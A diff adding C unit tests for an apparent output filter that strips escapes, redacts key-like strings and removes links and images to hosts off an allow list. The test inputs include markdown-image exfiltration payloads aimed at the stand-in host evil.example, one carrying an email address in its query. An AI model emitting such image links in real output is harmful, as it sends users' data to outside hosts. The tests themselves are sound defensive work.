@@ -16,7 +16,7 @@ static enum pst_status feed(struct rig *r, struct pst_str text, uint64_t *seed, 
     size_t at = 0;
     enum pst_status status = PST_OK;
     pst_buf_init(&held, 1 << 20);
-    r->guard.lanes = NULL;
+    pst_lane_guard_release(&r->guard);
     while (status == PST_OK && (at < text.n || held.n > 0)) {
         size_t n = whole ? text.n : roll(seed) % 9, taken = 0;
         struct pst_str in = pst_str_cut(text, at, n);
@@ -74,6 +74,172 @@ static void cuts_change_nothing(void **state)
             rig_release(&r);
         }
     }
+}
+
+/* Text with pieces of addresses and escapes in it, and of what random_text has. */
+static struct pst_str random_addresses(struct rig *r, uint64_t *seed)
+{
+    static const char *const pieces[] = {"![a](",
+                                         "https://evil.example/?q=",
+                                         "https://docs.example.com/a",
+                                         ")",
+                                         "[a](",
+                                         "]",
+                                         "<a href=\"",
+                                         "\">",
+                                         "h",
+                                         "ht",
+                                         "http",
+                                         "www.",
+                                         "//",
+                                         "\x1B[31m",
+                                         "\x1B]8;;https://",
+                                         "\x07",
+                                         "\x1B",
+                                         "data:",
+                                         "<img src=",
+                                         " ",
+                                         "\n",
+                                         "\xC3\xA9",
+                                         "url(",
+                                         "!",
+                                         "[1]: ",
+                                         "a",
+                                         ".",
+                                         "\xC2\x9B",
+                                         "31m"};
+    struct pst_buf text;
+    pst_buf_init(&text, 1 << 16);
+    for (uint32_t n = roll(seed) % 16; n > 0; n--) {
+        if (roll(seed) % 6 == 0) {
+            pst_buf_add(&text, random_text(r, seed));
+        } else {
+            pst_buf_add(&text, pst_str_c(pieces[roll(seed) % PST_LEN(pieces)]));
+        }
+    }
+    struct pst_str copy = pst_arena_copy(&r->arena, pst_buf_str(&text));
+    pst_buf_release(&text);
+    return copy;
+}
+
+/* With escapes and addresses in it, an answer is still the same however it is cut. */
+static void cuts_change_nothing_of_addresses(void **state)
+{
+    (void)state;
+    uint64_t seed = 12;
+    struct rig r;
+    struct pst_hosts hosts;
+    size_t changed = 0;
+    for (int round = 0; round < 1500; round++) {
+        struct pst_buf one, two;
+        if (round % 50 == 0) {
+            rig_init(&r, 1);
+            pst_hosts_init(&hosts, &r.arena);
+            assert_int_equal(pst_hosts_allow(&hosts, PST_STR("docs.example.com"), &r.err), PST_OK);
+            r.guard.hosts = &hosts;
+        }
+        r.guard.strict = round % 4 == 0;
+        struct pst_str text = random_addresses(&r, &seed);
+        pst_buf_init(&one, 1 << 20);
+        assert_int_equal(feed(&r, text, &seed, /* whole= */ true, &one), PST_OK);
+        changed += !pst_str_eq(text, pst_buf_str(&one));
+        for (int k = 0; k < 4; k++) {
+            pst_buf_init(&two, 1 << 20);
+            assert_int_equal(feed(&r, text, &seed, /* whole= */ false, &two), PST_OK);
+            if (!pst_str_eq(pst_buf_str(&one), pst_buf_str(&two))) {
+                print_error("%.*s\n%.*s\n%.*s\n", PST_FMT(text), PST_FMT(pst_buf_str(&one)),
+                            PST_FMT(pst_buf_str(&two)));
+            }
+            assert_true(pst_str_eq(pst_buf_str(&one), pst_buf_str(&two)));
+            pst_buf_release(&two);
+        }
+        pst_buf_release(&one);
+        if (round % 50 == 49) {
+            rig_release(&r);
+        }
+    }
+    assert_true(changed > 300);
+}
+
+static void answers_point_where_they_may(void **state)
+{
+    static const struct {
+        const char *text, *loose, *strict;
+    } rows[] = {
+        {"![x](https://evil.example/p.png)", "![x](#removed/evil.example)",
+         "![x](#removed/evil.example)"},
+        {"![x](https://docs.example.com/p.png)", "![x](https://docs.example.com/p.png)",
+         "![x](https://docs.example.com/p.png)"},
+        {"see https://other.example/guide.", "see https://other.example/guide.",
+         "see [address removed: other.example]."},
+        {"\x1B[31mred\x1B[0m", "red", "red"},
+        {"sk-\x1B[0m0123456789abcdef", "REDACTED_API_KEY", "REDACTED_API_KEY"},
+    };
+    (void)state;
+    struct rig r;
+    struct pst_hosts hosts;
+    rig_init(&r, 1);
+    pst_hosts_init(&hosts, &r.arena);
+    assert_int_equal(pst_hosts_allow(&hosts, PST_STR("docs.example.com"), &r.err), PST_OK);
+    for (size_t i = 0; i < PST_LEN(rows) * 3; i++) {
+        const char *texts[] = {rows[i / 3].text, rows[i / 3].loose, rows[i / 3].strict};
+        struct pst_buf out;
+        uint64_t seed = i;
+        pst_buf_init(&out, 1024);
+        r.guard.hosts = i % 3 == 0 ? NULL : &hosts; /* nothing of the kind, when not asked */
+        r.guard.strict = i % 3 == 2;
+        assert_int_equal(feed(&r, pst_str_c(rows[i / 3].text), &seed, false, &out), PST_OK);
+        if (!pst_str_eq(pst_buf_str(&out), pst_str_c(texts[i % 3]))) {
+            print_error("%.*s\n%s\n", PST_FMT(pst_buf_str(&out)), texts[i % 3]);
+        }
+        assert_true(pst_str_eq(pst_buf_str(&out), pst_str_c(texts[i % 3])));
+        pst_buf_release(&out);
+    }
+    rig_release(&r);
+}
+
+/* A value that was masked comes back into an address, and the address is judged with it. */
+static void restored_values_are_judged(void **state)
+{
+    (void)state;
+    struct rig r;
+    struct pst_hosts hosts;
+    struct pst_buf text, out;
+    uint64_t seed = 9;
+    rig_init(&r, 1);
+    pst_hosts_init(&hosts, &r.arena);
+    r.guard.hosts = &hosts;
+    pst_buf_init(&text, 1024);
+    pst_buf_init(&out, 1024);
+    PST_BUF_LIT(&text, "![x](https://evil.example/?to=");
+    pst_buf_add(&text, rig_mask(&r, PST_STR("a@b.org")));
+    PST_BUF_LIT(&text, ") and ");
+    pst_buf_add(&text, rig_mask(&r, PST_STR("a@b.org")));
+    assert_int_equal(feed(&r, pst_buf_str(&text), &seed, false, &out), PST_OK);
+    assert_str(pst_buf_str(&out), "![x](#removed/evil.example) and a@b.org");
+    pst_buf_release(&text);
+    pst_buf_release(&out);
+    rig_release(&r);
+}
+
+static void a_hold_has_an_end(void **state)
+{
+    (void)state;
+    struct rig r;
+    struct pst_buf out;
+    size_t taken = 0;
+    rig_init(&r, 1);
+    r.guard.hold_max = 32;
+    pst_buf_init(&out, 1 << 20);
+    enum pst_status status = PST_OK;
+    for (int i = 0; status == PST_OK && i < 100; i++) { /* one word without an end */
+        status = pst_lane_guard_filter.push(&r.guard, &content, PST_STR("aaaa"), false, &taken,
+                                            &out, &r.err);
+    }
+    assert_int_equal(status, PST_ERR);
+    assert_int_equal(r.err.code, PST_E_UPSTREAM_ANSWER);
+    pst_buf_release(&out);
+    rig_release(&r);
 }
 
 static void nothing_of_a_finding_leaves_early(void **state)
@@ -217,9 +383,15 @@ static void lanes_do_not_mix(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(cuts_change_nothing), cmocka_unit_test(nothing_of_a_finding_leaves_early),
-        cmocka_unit_test(arguments_stay_json), cmocka_unit_test(atoms_are_not_restored),
+        cmocka_unit_test(cuts_change_nothing),
+        cmocka_unit_test(nothing_of_a_finding_leaves_early),
+        cmocka_unit_test(arguments_stay_json),
+        cmocka_unit_test(atoms_are_not_restored),
         cmocka_unit_test(lanes_do_not_mix),
+        cmocka_unit_test(cuts_change_nothing_of_addresses),
+        cmocka_unit_test(answers_point_where_they_may),
+        cmocka_unit_test(restored_values_are_judged),
+        cmocka_unit_test(a_hold_has_an_end),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
